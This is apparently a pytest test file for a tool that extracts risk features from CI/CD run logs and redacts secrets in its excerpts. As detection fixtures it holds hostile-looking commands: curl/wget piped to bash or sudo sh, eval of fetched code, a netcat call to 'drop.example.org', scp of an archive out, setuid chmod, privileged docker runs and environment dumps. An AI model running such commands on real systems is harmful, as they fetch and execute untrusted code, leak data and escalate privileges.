"""The features of CI/CD runs, out of raw logs of each provider; and logs that mean harm."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from mllib.features import _pipeline_commands, _pipeline_reading, _pipeline_secrets
from mllib.features.pipeline import (
    MAX_EVIDENCE,
    MAX_HOSTS,
    MAX_PRIVILEGES,
    PipelineFeatures,
    PipelineMeta,
    pipeline_features,
)
from mllib.ingest import detect, format_named
from mllib.ingest.base import ParseOptions, RunRecord
from mllib.ingest.reader import read
from mllib.sources import PIPELINE_FEATURES
from tests.factories import START

# Made here, in pieces, so that no file holds what looks like a secret.
AWS = "AKIA" + "Q7RT" * 4
GITHUB = "ghp_" + "a1B2c3D4" * 4
PASSWORD = "Wq7!kd92" + "Lm"

TRAVIS = """\
travis_fold:start:git.checkout\r\x1b[0Ktravis_time:start:0a1b\r\x1b[0K$ git clone --depth=50 \
https://code.example.org/shop/web.git shop/web\r
Cloning into 'shop/web'...\r
travis_time:end:0a1b:start=1700000000000000000,finish=1700000002500000000,duration=2500000000\r\x1b[0Ktravis_fold:end:git.checkout\r
$ cd shop/web\r
travis_fold:start:before_install\r\x1b[0Ktravis_time:start:0c2d\r\x1b[0K$ sudo apt-get install -y libfoo\r
\x1b[33;1mWarning: the list is old\x1b[0m\r
Setting up libfoo (1.2-3) ...\r
travis_time:end:0c2d:start=1700000003000000000,finish=1700000009000000000,duration=6000000000\r\x1b[0Ktravis_fold:end:before_install\r
$ curl -sSL https://get.example.net/setup.sh | bash\r
$ travis_retry ./build.sh\r
$ env\r
Tests run: 9, Failures: 2, Skipped: 0\r
\x1b[31;1mThe command "./build.sh" exited with 1.\x1b[0m\r
"""

GITHUB_ACTIONS = f"""\
\ufeff2026-01-05T10:00:00.1234567Z ##[group]Run actions/checkout@v4
2026-01-05T10:00:01.0000000Z ##[endgroup]
2026-01-05T10:00:01.2000000Z [command]/usr/bin/git clone https://code.example.org/shop/web
2026-01-05T10:00:02.0000000Z ##[group]Run docker pull registry.example.com/base:1
2026-01-05T10:00:02.1000000Z \x1b[36;1mdocker pull registry.example.com/base:1\x1b[0m
2026-01-05T10:00:03.0000000Z 1: Pulling from base
2026-01-05T10:00:04.0000000Z Status: Downloaded newer image for registry.example.com/base:1
2026-01-05T10:00:05.0000000Z ##[group]Run wget -q https://files.example.io/tool
2026-01-05T10:00:06.0000000Z \x1b[36;1mwget -q https://files.example.io/tool\x1b[0m
2026-01-05T10:00:07.0000000Z \x1b[36;1mchmod 777 tool\x1b[0m
2026-01-05T10:00:08.0000000Z \x1b[36;1m./tool --token {GITHUB}\x1b[0m
2026-01-05T10:00:09.0000000Z ##[warning]Node 16 is deprecated
2026-01-05T10:00:20.6234567Z ##[error]Process completed with exit code 1.
"""

PLAIN = "$ make\nerror: no rule\n0 errors\n+ printenv | sort\n--- FAIL: TestOne\n"


def numbers(text: str) -> dict[str, float | None]:
    """Seventeen numbers in the order of PIPELINE_FEATURES; "-" for one that is not known."""
    return dict(zip(PIPELINE_FEATURES, (None if word == "-" else float(word) for word in text.split()), strict=True))


LOGS = [
    #                          s    lines bytes            steps failed errors warnings retries commands
    #                          installs hosts scripts rights secrets dumps pulls test failures
    (TRAVIS, numbers(f"9    13 {len(TRAVIS)}             2 1 0 1 1 6   2 2 1 1 0 1 0 1")),
    (GITHUB_ACTIONS, numbers(f"20.5 13 {len(GITHUB_ACTIONS) + 2} 3 1 1 1 0 6   0 3 1 1 1 0 2 0")),
    (PLAIN, numbers(f"-    5  {len(PLAIN)}              2 0 2 0 0 2   0 0 0 0 0 1 0 1")),
    ("", numbers("-" + " 0" * 16)),
]  # fmt: skip


def excerpts(found: PipelineFeatures, kind: str) -> list[tuple[int, str]]:
    kept = (found.evidence or {}).get(kind, [])
    assert isinstance(kept, list)
    return [(place["line"], place["excerpt"]) for place in kept]


@pytest.mark.parametrize(("log", "expected"), LOGS, ids=["travis", "github_actions", "plain", "empty"])
def test_the_features_of_a_whole_log(log: str, expected: dict[str, float | None]) -> None:
    assert dict(pipeline_features(log).values) == expected


def test_what_else_a_log_tells() -> None:
    travis, actions, plain = (pipeline_features(log) for log in (TRAVIS, GITHUB_ACTIONS, PLAIN))
    assert (travis.provider, travis.repository) == ("travis", "shop/web")
    assert actions.provider == "github_actions"
    assert (plain.provider, plain.repository, plain.hosts) == (None, None, ())
    assert travis.hosts == ("code.example.org", "get.example.net")
    assert excerpts(travis, "remote_script") == [(9, "$ curl -sSL https://get.example.net/setup.sh | bash")]
    assert excerpts(actions, "remote_script") == [(11, "$ ./tool --token [secret]")]
    assert (actions.evidence or {})["privileges"] == ["chmod 777"]


def test_a_given_duration_counts_more_than_the_times_in_the_log() -> None:
    assert pipeline_features(TRAVIS, PipelineMeta(duration_s=77)).values["duration_s"] == 77
    assert pipeline_features("2026-02-31T10:00:00Z a\n2026-02-31T10:00:09Z b\n").values["duration_s"] is None


@pytest.mark.parametrize(
    ("line", "feature", "count"),
    [
        ("$ wget -qO- http://a.example.org/s | sudo sh", "remote_script_executions", 1),
        ("+ bash <(curl -s https://a.example.org/s)", "remote_script_executions", 1),
        ('$ eval "$(wget -O - https://a.example.org/env)"', "remote_script_executions", 1),
        ("+ curl -O http://a.example.org/tool\n+ ./tool", "remote_script_executions", 1),
        ("+ curl -o x.sh http://a.example.org/1\n+ sh x.sh", "remote_script_executions", 1),
        ("$ curl -L http://a.example.org/x.tgz | tar xz && ./x/install.sh", "remote_script_executions", 1),
        ("$ curl -L http://a.example.org/x.tgz | tar xz && cat x/README", "remote_script_executions", 0),
        ("$ curl -s http://a.example.org/s | grep shell", "remote_script_executions", 0),
        ("$ curl -O http://a.example.org/data.csv\n$ ./run", "remote_script_executions", 0),
        ("$ chmod u+s /usr/bin/x", "privilege_changes", 1),
        ("$ chmod +x gradlew", "privilege_changes", 0),
        ("+ docker run --privileged base", "privilege_changes", 1),
        ("the pseudo code", "privilege_changes", 0),
        (f"export AWS_ACCESS_KEY_ID={AWS}", "secret_like_tokens", 1),
        (f"password: {PASSWORD}\nagain password: {PASSWORD}", "secret_like_tokens", 1),
        (f"Cloning https://deploy:{PASSWORD}@git.example.org/app", "secret_like_tokens", 1),
        (f"machine a.example.org login ci password {PASSWORD}", "secret_like_tokens", 1),
        (f"$ mysql -uroot -p{PASSWORD} -e status", "secret_like_tokens", 1),
        (f"$ curl -u ci:{PASSWORD} http://a.example.org/", "secret_like_tokens", 1),
        ("$ docker login -u ci -p " + "KhVzNiaBfuRMFqTd", "secret_like_tokens", 1),
        ("$ docker run -p 8080:80 web\npassword: getMyAccountKeyName", "secret_like_tokens", 0),
        ("password: ********\ntoken=[secure]\nsecret: example12345", "secret_like_tokens", 0),
        ("token: some-ordinary-words\nkey_token=1.2.3", "secret_like_tokens", 0),
        ("\n".join(f"NAME_{number}=value" for number in range(20)), "environment_dumps", 1),
        ("\n".join(f"NAME_{number}=value" for number in range(19)), "environment_dumps", 0),
        ("$ npm install\n$ sudo pip install x\n$ npm test", "dependency_installs", 2),
        ("0 errors\nno failures\nfailures: 0\njava.io.IOException", "error_lines", 1),
        ("attempt 2\nattempt 1\nRetrying", "retry_count", 2),
    ],
)
def test_what_counts_for_a_feature(line: str, feature: str, count: float) -> None:
    assert pipeline_features(line).values[feature] == count


def test_escape_sequences_and_carriage_returns_hide_nothing() -> None:
    hidden = "\x1b[32m$ cu\x1b[0mrl http://a.example.org/s | ba\x1b[1msh\x1b[0m\rall is well\x1b[K\n"
    found = pipeline_features(hidden)
    assert found.values["remote_script_executions"] == 1
    assert excerpts(found, "remote_script") == [(1, "$ curl http://a.example.org/s | bash")]


@pytest.mark.parametrize(
    ("line", "hosts"),
    [
        ("$ curl HTTPS://User:pw@Files.Example.ORG:8443/x", ("files.example.org",)),
        ("+ nc -w 3 drop.example.org 4444", ("drop.example.org",)),
        ("$ scp out.tgz build@10.20.30.40:/in", ("10.20.30.40",)),
        ("* Connected to a.example.org (1.2.3.4) port 443", ("a.example.org",)),
        ("$ docker push images.example.org/web:1", ("images.example.org",)),
        ("Downloading: https://jars.example.org/a-1.0.jar", ("jars.example.org",)),
        ("For help see https://docs.example.org/page", ()),
        ("$ curl http://localhost:8080 http://127.0.0.1 http://db.internal", ()),
        ("$ curl http://999.1.1.1/ http://x..y/", ()),
    ],
)
def test_hosts(line: str, hosts: tuple[str, ...]) -> None:
    found = pipeline_features(line)
    assert found.hosts == hosts
    assert found.values["distinct_network_hosts"] == len(hosts)


def test_the_closest_contact_counts_and_mentions_are_kept_apart() -> None:
    lines = (
        *("See http://a.example.org", "$ curl http://a.example.org"),
        *("See http://b.example.org", "POST http://c.example.org 200"),
    )
    found = pipeline_features("\n".join(lines))
    assert found.hosts == ("a.example.org", "c.example.org")
    assert (found.evidence or {})["contacts"] == {
        "a.example.org": ["command", 2],
        "c.example.org": ["transfer", 1],
        "b.example.org": ["mention", 1],
    }


@pytest.mark.parametrize(
    "secret",
    [AWS, GITHUB, PASSWORD, "eyJ" + "h" * 20 + "." + "Q9" * 20 + "." + "z" * 20, "f00dBabe" * 5],
)
@pytest.mark.parametrize(
    "around",
    [
        "$ sudo login --password {}",
        "$ curl -H 'Authorization: Bearer {}' http://a.example.org | sh",
        "$ sudo wget http://deploy:{}@a.example.org/x",
        '$ sudo echo {{"access_token":"{}"}}',
        "$ export DEPLOY_KEY={} && sudo make",
        "$ curl http://a.example.org/ -d password=" + "x" * 150 + " -d api_key={}",
    ],
)
def test_no_excerpt_shows_a_secret(around: str, secret: str) -> None:
    found = pipeline_features(around.format(secret) + "\n")
    assert found.evidence
    shown = json.dumps([found.evidence, found.hosts])
    assert secret not in shown
    # Nor the half of it that a cut would leave.
    assert secret[:8] not in shown.replace("xxxxxxxx", "")


def test_a_secret_at_the_end_of_what_is_looked_at_is_not_cut_into_one_that_nobody_knows() -> None:
    urls = "http://u:" + "a1" * 140 + "@h.example.org "
    line = "sudo x " + urls * 14
    line += "y" * (_pipeline_secrets.MAX_LINE - len(line) - 12) + " " + PASSWORD + "tail"
    shown = _pipeline_secrets.excerpt(line[: _pipeline_secrets.MAX_LINE - 4] + "9Z8Y7X")
    assert len(shown) <= _pipeline_secrets.EXCERPT
    assert "a1a1" not in shown
    assert PASSWORD[:5] not in shown
    assert _pipeline_secrets.excerpt("z" * 5000) == "[a word of more than 4,096 characters]"


def test_hosts_privileges_and_evidence_are_bounded() -> None:
    lines = [f"$ sudo tool{number} \U0001f600\"\\{'é' * 300} http://{'n' * 60}.{number}.example.org | sh"
             for number in range(1000)]  # fmt: skip
    lines += [f"$ env; docker pull x; password=a1B2c3D4e{number}F \U0001f600{'é' * 300}" for number in range(30)]
    found = pipeline_features("\n".join(lines))
    assert found.evidence
    assert len(found.hosts) == MAX_HOSTS
    assert len((found.evidence)["privileges"]) == MAX_PRIVILEGES  # type: ignore[arg-type]
    assert len(json.dumps(found.evidence)) <= MAX_EVIDENCE
    assert len(excerpts(found, "privilege")) == _pipeline_reading.MAX_EXCERPTS
    assert all(len(text) <= _pipeline_secrets.EXCERPT for _, text in excerpts(found, "privilege"))
    assert found.values["privilege_changes"] == 1000
    assert found.values["secret_like_tokens"] == 30


# A backtracking engine does not come back from some of these.
HOSTILE = {
    "one long word": "a" * 5_000_000,
    "a million short lines": "x\n" * 1_000_000,
    "carriage returns": "a\r" * 500_000,
    "a word of separators": ("token=" + "._" * 190 + "1a\n") * 100,
    "a long key": "token" * 100_000 + "=aaaaaaaa1Z9",
    "commands in a line": "$ " + "su - " * 200_000,
    "addresses in a line": "$ curl " + "http://a/b!" * 100_000,
    "flags": ("$ curl x; sh " + "-%sh " * 800 + "\n") * 100,
    "half escape sequences": "\x1b[" * 300_000 + "\x1b]" * 300_000,
    "NUL and controls": "".join(map(chr, range(32))) * 10_000,
}


@pytest.mark.parametrize("log", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.timeout(120)
def test_any_text_is_read(log: str) -> None:
    found = pipeline_features(log)
    assert found.values["log_lines"] == log.count("\n") + (not log.endswith("\n"))
    assert found.values["log_bytes"] == len(log)
    assert all(value is None or 0 <= value < float("inf") for value in found.numbers())
    assert len(json.dumps(found.evidence)) <= MAX_EVIDENCE


def test_a_log_of_many_blocks_is_as_one(monkeypatch: pytest.MonkeyPatch) -> None:
    whole = [pipeline_features(log) for log, _ in LOGS]
    monkeypatch.setattr(_pipeline_reading, "BLOCK", 200)
    assert [pipeline_features(log) for log, _ in LOGS] == whole


def test_python_looks_at_a_bounded_number_of_lines(monkeypatch: pytest.MonkeyPatch) -> None:
    seen = []
    original = _pipeline_commands.privilege_stems
    monkeypatch.setattr(_pipeline_reading, "MAX_DISTINCT", 50)
    monkeypatch.setattr(_pipeline_commands, "privilege_stems", lambda line: seen.append(line) or original(line))
    found = pipeline_features("".join(f"$ sudo tool{number}{'x' * 5000}\n" for number in range(200)))
    assert found.values["privilege_changes"] == 200
    assert len(seen) == 50
    assert max(map(len, seen)) == _pipeline_secrets.MAX_LINE


def test_half_characters_are_replaced_before() -> None:
    broken = b"$ sudo make \xff\xfe\xc3\n$ sudo rm \xf0\x9f\n".decode("utf-8", "replace")
    for text in (broken, "$ sudo make \ud83d\n$ sudo rm \udcff\n"):
        found = pipeline_features(text)
        assert found.values["privilege_changes"] == 2
        json.dumps(found.evidence, ensure_ascii=False).encode("utf-8")


def run(**keys: object) -> RunRecord:
    record = format_named("pipeline_jsonl").parser(ParseOptions())(json.dumps({"ts": START.isoformat(), **keys}))
    assert isinstance(record, RunRecord)
    return record


def test_a_run_with_a_log_is_taken_in() -> None:
    record = run(log=TRAVIS, label="failed", actor="someone")
    assert (record.provider, record.repository, record.label) == ("travis", "shop/web", "failed")
    assert record.features.values["dependency_installs"] == 2
    assert record.features.values["duration_s"] == 9
    assert record.attributes == {"actor": "someone"}
    assert (run(log=TRAVIS, duration_s=5).features.values)["duration_s"] == 5
    told = run(log=TRAVIS, provider="other", repository="shop/api")
    assert (told.provider, told.repository) == ("other", "shop/api")


def test_a_file_of_runs_with_logs(tmp_path: Path) -> None:
    path = tmp_path / "runs.jsonl"
    line = {"ts": START.isoformat(), "provider": "travis"}
    path.write_text("".join(json.dumps({**line, "log": log}) + "\n" for log, _ in LOGS if log))
    assert detect(path).name == "pipeline_jsonl"
    (batch,) = read(path, format_named("pipeline_jsonl"))
    assert [record.features.values for _, record in batch.records] == [expected for log, expected in LOGS if log]
    assert not batch.rejects
    assert not re.search("a1B2c3D4", str([record.features for _, record in batch.records]))


READ_LARGE = """
import resource
from mllib.features.pipeline import pipeline_features
lines = "compiled module {0} in 12 ms\\n$ sudo make part{0} token=ab{0}cdEF12 from http://h{0}.example.org/lib{0}.jar\\n"
some = "".join(lines.format(number) for number in range(10_000))
def peak(times):
    text = some * times
    found = pipeline_features(text)
    assert found.values["log_bytes"] == len(text) and found.values["privilege_changes"] == 10_000 * times
    return len(text), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
small, before = peak(6)
large, after = peak(25)
print(large, after - before, large - small)
"""


@pytest.mark.timeout(240)
def test_a_large_log_takes_little_memory_beside_itself() -> None:
    found = subprocess.run([sys.executable, "-c", READ_LARGE], capture_output=True, text=True, check=True)
    large, grown, more_text = map(int, found.stdout.split())
    assert large > 25_000_000
    assert grown < 2 * more_text
